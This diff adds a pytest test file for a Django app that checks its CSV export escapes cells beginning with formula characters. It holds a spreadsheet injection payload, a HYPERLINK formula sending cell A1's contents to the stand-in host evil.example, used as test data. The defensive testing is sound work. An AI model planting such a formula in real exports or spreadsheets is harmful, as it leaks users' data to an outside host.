@@ -1,0 +1,52 @@
+"""CSV injection: no cell the product exports starts a formula in a spreadsheet (issue 10, finding 5)."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+
+from tests.factories import HypothesisFactory
+from tracking.exports import spreadsheet_safe
+
+pytestmark = pytest.mark.django_db
+
+PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def _exported_rows(team, client) -> list[list[str]]:
+    client.force_login(team.team_lead.user)
+    response = client.get(reverse("hypotheses:history_csv", args=[team.company.pk]))
+    raw = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(raw, newline="")))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_title_that_would_start_a_formula_is_exported_as_text(start, team, client):
+    title = start + PAYLOAD
+    HypothesisFactory(company=team.company, metric=team.metric, title=title)
+    rows = _exported_rows(team, client)
+    assert ["'" + title] in [row[:1] for row in rows[1:]]
+    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows)
+
+
+@pytest.mark.parametrize("start", ["\t", "\r"])
+def test_a_text_that_starts_with_a_tab_or_carriage_return_is_exported_as_text(start, team, client):
+    # Tabs and carriage returns are refused in titles; the longer texts keep them.
+    statement = start + "=" + PAYLOAD
+    HypothesisFactory(company=team.company, metric=team.metric, title="Tabbed", statement=statement)
+    (row,) = [row for row in _exported_rows(team, client) if row[0] == "Tabbed"]
+    assert "'" + statement in row
+    assert statement not in row
+
+
+def test_numbers_and_ordinary_text_are_written_as_they_are():
+    assert spreadsheet_safe(["Plain", Decimal("-2.5"), -3, "", "a=b", "2-1"]) == [
+        "Plain",
+        Decimal("-2.5"),
+        -3,
+        "",
+        "a=b",
+        "2-1",
+    ]
